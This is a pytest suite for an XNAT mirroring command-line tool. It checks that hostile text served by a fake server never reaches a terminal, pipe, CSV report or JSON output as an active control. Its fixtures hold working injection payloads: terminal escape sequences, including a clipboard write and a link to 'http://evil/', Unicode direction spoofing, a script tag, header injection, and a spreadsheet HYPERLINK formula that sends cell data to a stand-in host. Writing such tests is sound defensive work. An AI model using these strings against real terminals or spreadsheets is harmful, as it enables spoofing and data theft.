"""What the server may put on a terminal: nothing that it obeys, whatever the command, on a screen and in a pipe."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import select
import subprocess
from pathlib import Path

import pytest

from hostile.conftest import Make
from hostile.evil import body
from hostile.scene import PASSWORD, Attacked, Scene, assert_plain, some
from system.harness import COMMAND, STATE
from xnat_embedded import Site, empty_site

BAD = {
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "link": "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\",
    "C1": "\x9b2J\x9d0;owned\x9c",
    "overwrite": "evil\rgood\b\b\b\b",
    "lines": "a\nfailed: b\r\nc\vd\fe\x85f\u2028g\u2029h",
    "NUL and DEL": "a\0b\x7f",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200f",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041",
    "long": "w" * 20_000,
    "wide": "\N{BRAIN}" * 300,
    "formula": '=HYPERLINK("http://evil/?"&A1,"click")',
    "quotes": '",";\'\t|',
    "markup": "<script>alert(1)</script>[bold]%s{0}\\",
}


def bad_site() -> Site:
    site = empty_site()
    project = site.add_project("PTV000", name=BAD["clear"], members=("demo",), description=BAD["clipboard"])
    for number, (way, text) in enumerate(BAD.items()):
        site.add_project(f"P{number}{text[:200]}", name=text, members=("demo",), description=text)
        session = project.add_subject(f"{way} {text}").add_session(f"E{text}", date="2020-01-01", note=text)
        scan = session.add_scan(f"{number}{text}", text, series_description=text)
        scan.add_resource(f"{text}R", [(f"{text.strip('/')}.dcm", b"x%d" % number)])
        scan.add_resource("LOST", on_disk(text))
    return site


def on_disk(text: str) -> list[tuple[str, bytes]]:
    return [(f"gone {text}", b"gone")]


@pytest.fixture
def bad(stage: Make) -> Scene:
    """Every text at every level, and for each a file that fails, so that it is told."""
    at = stage(bad_site())
    for status, where in ((404, "/resources/[0-9]*[02468]/files"), (403, "/resources/[0-9]*[13579]/files/gone")):
        at.evil.lie(where, body(BAD["clear"].encode(), "X-Bad: \x1b[2J", status=status))
    return at


def test_every_command_in_a_pipe(bad: Scene) -> None:
    dest = str(bad.here.dest)
    mirroring = bad.attack(*bad.mirroring("-v"), name="labels for a terminal", anywhere=True)
    assert mirroring.code == 3, mirroring
    usual = [
        ["projects", "--csv"], ["ls", "PTV000"], ["ls", "PTV000", "--level", "scans", "--csv"], ["status", dest],
        ["verify", dest], ["ls", "PTV000/nobody"], [*bad.mirroring("--dry-run")],
        [*bad.mirroring("--log-format", "json")],
    ]  # fmt: skip
    others = [
        ["projects"], ["projects", "--json"], ["ls", "PTV000", "--csv"], ["ls", "PTV000", "--level", "scans"],
        ["ls", "PTV000", "--subject", "*", "--level", "scans"], ["ls", "PTV000", "--level", "scans", "--json"],
        ["ls", "PTV000", "--scan", "none"], ["status", dest, "--json"], [*bad.mirroring("--dry-run", "--json")],
        [*bad.mirroring("-q")], ["subject", "PTV000/nobody", "--dest", dest], ["scan", "PTV000/a/b/c", "--dest", dest],
    ]  # fmt: skip
    for arguments in some([*usual, *others], *usual):
        ended = bad.attack(*arguments, anywhere=True, env={"XNAT_SYNC_RETRIES": "0"})
        assert max(map(len, [*ended.err.splitlines(), ""])) < 70_000
        if "--json" in arguments and ended.code in (0, 3):
            json.loads(ended.out)
        if "--csv" in arguments:
            assert len({len(line) for line in csv.reader(io.StringIO(ended.out))}) == 1, ended
    for line in mirroring.err.splitlines():
        assert len(line) < 5000, line[:200]


def test_the_report_is_plain_text(bad: Scene) -> None:
    """It is looked at with ``cat`` and opened in spreadsheets: one row an item, and no control character in it."""
    bad.attack(anywhere=True)
    for path in (bad.project / STATE / "runs").glob("*/*"):
        assert_plain(path.read_text())
    report = next((bad.project / STATE / "runs").glob("*/report.csv")).read_text()
    rows = list(csv.reader(io.StringIO(report)))
    assert {len(row) for row in rows} == {5}
    assert {row[0] for row in rows[1:]} <= {"fetched", "failed", "vanished", "skipped", "doubted"}


SAFE = re.compile(  # what bars are drawn with: colour is not among it
    r"\x1b\[A|\x1b\[\d*B|\r\n|\r|\n|\x1b\[K"
)


def on_a_terminal(at: Scene, *arguments: str) -> tuple[int, str]:
    """Run the command with a terminal as its output and give what the terminal got."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [*COMMAND, *arguments], env=at.here.env({"XNAT_SYNC_RETRIES": "0"}), stdin=theirs, stdout=theirs, stderr=theirs
    )
    os.close(theirs)
    got = bytearray()
    while True:
        select.select([ours], [], [], 60)
        try:
            piece = os.read(ours, 65536)
        except OSError:
            break
        got += piece
    os.close(ours)
    return process.wait(30), got.decode()


@pytest.mark.parametrize(
    "command", some(["mirror", "ls PTV000 --level scans", "projects --csv"], "mirror", "projects --csv")
)
def test_on_a_terminal(bad: Scene, command: str) -> None:
    """The cursor moves by what the bars need, and by nothing else."""
    code, got = on_a_terminal(bad, *(bad.mirroring("-v") if command == "mirror" else command.split()))
    assert code in (0, 3), got
    assert "Traceback" not in got
    rest = SAFE.sub("", got)
    assert rest.isprintable(), ascii([c for c in rest if not c.isprintable()])
    assert PASSWORD not in got


USER = "\x1b[2J\u202eroot\x9b"


def test_what_the_login_tells(at: Scene) -> None:
    """User name, version, titles of pages and addresses of redirects come from the server too."""
    at.evil.lie("/data/auth$", body(f"User '{USER}' is logged in".encode(), kind="text/plain"))
    at.evil.lie("/xapi/siteConfig/buildInfo", body(json.dumps({"version": BAD["clear"] + "9" * 10_000}).encode()))
    for arguments in (["whoami"], ["whoami", "--json"], ["login"], ["logout"]):
        ended = kept(at, *arguments)
        assert ended.code == 0, ended
        assert len(ended.out) < 20_000


VERSIONS = [b"[" * 100_000, b'{"version": ' + b"[" * 980 + b"]" * 980 + b"}", b"null", b"[]", b'"x"', b"\xff", b""]


@pytest.mark.parametrize("version", some(VERSIONS, VERSIONS[0], VERSIONS[5]))
def test_a_version_that_is_none(at: Scene, version: bytes) -> None:
    at.evil.lie("/xapi/siteConfig/buildInfo", body(version))
    assert at.attack("whoami").code == 0


TOKENS: list[object] = [
    {"alias": "A", "secret": "1", "xdatUserId": "demo", "estimatedExpirationTime": 1 << 61},
    {"alias": "A", "secret": "1", "xdatUserId": "demo", "estimatedExpirationTime": 1e18, "created": 1},
    {"alias": "A", "secret": "1", "xdatUserId": "demo", "estimatedExpirationTime": float("nan"), "created": True},
    {"alias": ["A"], "secret": "1"}, {"alias": "A\r\nX: y", "secret": "\x1b[2J", "xdatUserId": "\x1b[2J"}, [], None, 7,
]  # fmt: skip


@pytest.mark.parametrize("token", some(TOKENS, TOKENS[0], TOKENS[4]))
def test_a_token_that_is_none(at: Scene, token: object) -> None:
    at.evil.lie("/services/tokens/issue", body(json.dumps(token).encode()))
    ended: Attacked = kept(at, "login", "--token")
    assert ended.code in (0, 3), ended
    assert_plain(ended.out + ended.err)


def kept(at: Scene, *arguments: str) -> Attacked:
    """Run a command that may keep a login in the user's state folder."""
    done = at.here.run(*arguments)
    at.hold(done)
    assert {path.name for path in Path(at.here.home / "state").iterdir()} <= {
        "xnat-sync", "escape.dcm", "0.dcm", ".bashrc",
    }  # fmt: skip
    return Attacked(done.code, done.out, done.err)
